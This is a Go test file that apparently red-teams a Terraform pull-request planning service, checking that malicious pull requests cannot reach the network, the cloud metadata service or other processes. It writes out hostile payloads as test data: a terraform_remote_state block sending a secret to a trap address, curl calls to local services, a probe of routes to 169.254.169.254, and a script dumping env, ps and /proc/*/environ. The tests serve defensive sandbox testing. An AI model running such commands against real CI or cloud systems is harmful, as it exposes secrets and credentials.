package redteam_test

import (
	"strings"
)

// Row 2: code of a pull request runs programs and speaks to the network. It reaches for services of this machine, the server among them; for
// the processes beside it; and for the way to a cloud's metadata service, whose address no packet is ever sent to.

func networkAttacks() []attack {
	remoteState := func(which int) func(w *world) []string {
		return func(w *world) []string {
			if which >= len(w.server.trap.Addresses) {
				w.Skip("this machine has no address but loopback")
			}
			path := "/" + w.name
			pull, head := w.propose(map[string]string{"main.tf": `data "terraform_remote_state" "loot" {
  backend = "http"
  config  = { address = "http://` + w.server.trap.Addresses[which] + path + `?secret=${urlencode(terraform.workspace)}" }
}

output "loot" {
  value = data.terraform_remote_state.loot.outputs
}
`})
			w.planned(pull, head)
			return append(w.server.trap.caught(path), w.spoils(pull, head, w.server.trap.secret)...)
		}
	}
	return []attack{
		{
			Row: 2, Name: "terraform_remote_state sends to a service on loopback", Wall: "network namespace", Without: network, Quick: true,
			Try: remoteState(0),
		},
		{
			Row: 2, Name: "terraform_remote_state sends to a service on this machine's address", Wall: "closed addresses", Without: network,
			Try: remoteState(1),
		},
		{
			Row: 2, Name: "an external program calls services of this machine", Wall: "network namespace", Without: network,
			Try: func(w *world) []string {
				path := "/" + w.name + "-program"
				var script strings.Builder
				for _, address := range w.server.trap.Addresses {
					script.WriteString("curl -s -m 5 http://" + address + path + " || GIT_TERMINAL_PROMPT=0 git ls-remote http://" + address + path + "\n")
				}
				pull, head := w.propose(program(script.String()))
				w.planned(pull, head)
				return append(w.server.trap.caught(path), w.spoils(pull, head, w.server.trap.secret)...)
			},
		},
		{
			Row: 2, Name: "an external program calls the server", Wall: "network namespace", Without: network,
			Try: func(w *world) []string {
				pull, head := w.propose(program(`curl -s -m 5 ` + w.server.URL + `/metrics | grep go_info || git ls-remote ` + w.server.URL + `/x.git`))
				w.planned(pull, head)
				return w.spoils(pull, head, canary{"the server's metrics", "go_info{version="}, canary{"the server's answer to git", "not found: did you run"})
			},
		},
		{
			Row: 2, Name: "an external program looks for a way to the metadata service", Wall: "closed addresses", Without: sandbox,
			Try: func(w *world) []string {
				// The most exact route decides: FEA9 is 169.254 as the kernel writes it, flag 200 refuses.
				pull, head := w.propose(program(`while read -r dev to gate flags rest; do
  case $to in 00000000) way="open-by-$dev" ;; ??*FEA9) case $flags in *2??) shut=yes ;; esac ;; esac
done </proc/net/route
[ -n "$shut" ] || [ -z "$way" ] || echo "metadata $way"`))
				w.planned(pull, head)
				return w.spoils(pull, head, canary{"a way to 169.254.169.254", "metadata open-by-"})
			},
		},
		{
			Row: 2, Name: "an external program prints env, ps and /proc/*/environ", Wall: "namespaces and an empty parent environment", Without: sandbox,
			Quick: true,
			Try: func(w *world) []string {
				pull, head := w.propose(program(spyScript))
				w.planned(pull, head)
				return w.spoils(pull, head, append(w.server.others(), canary{"the process of the server", "process " + w.server.processName()})...)
			},
		},
		{
			Row: 2, Name: "local-exec prints env, ps and /proc/*/environ when it is applied", Wall: "namespaces and an empty parent environment",
			Without: sandbox,
			Try: func(w *world) []string {
				pull, head := w.propose(map[string]string{"main.tf": w.backend() + `resource "terraform_data" "spy" {
  provisioner "local-exec" {
    command = "./spy.sh"
  }
}
`, "spy.sh": "#!/bin/sh\n" + spyScript})
				w.planned(pull, head)
				w.tells(w.bob, pull, "planlatch apply")
				w.ends(head, "planlatch/apply")
				return w.spoils(pull, head, append(w.server.others(), canary{"the process of the server", "process " + w.server.processName()})...)
			},
		},
		{
			Row: 2, Name: "an external program signals and traces the processes it sees", Wall: "PID namespace", Without: sandbox,
			Try: func(w *world) []string {
				// Signal 0 asks whether one may, and does nothing.
				pull, head := w.propose(program(`for p in /proc/[0-9]*; do
  if tr '\000' ' ' <$p/cmdline 2>/dev/null | grep -q '` + w.server.processName() + `'; then kill -0 "${p#/proc/}" && echo "may end process ${p#/proc/} of somebody else"; fi
done`))
				w.planned(pull, head)
				return w.spoils(pull, head, canary{"a process that it may end", "may end process"})
			},
		},
	}
}

// spyScript prints what a program sees of others. Whole environments are too much for an output: lines with a canary are what counts.
const spyScript = `env | grep -a cnry
for p in /proc/[0-9]*; do
  echo "process $(tr '\000' ' ' <$p/cmdline 2>/dev/null | cut -c1-100)"
  tr '\000' '\n' <$p/environ 2>/dev/null | grep -a cnry
done
ps axe 2>/dev/null | grep -a cnry | grep -av PROJECT_SECRET # our own
true
`
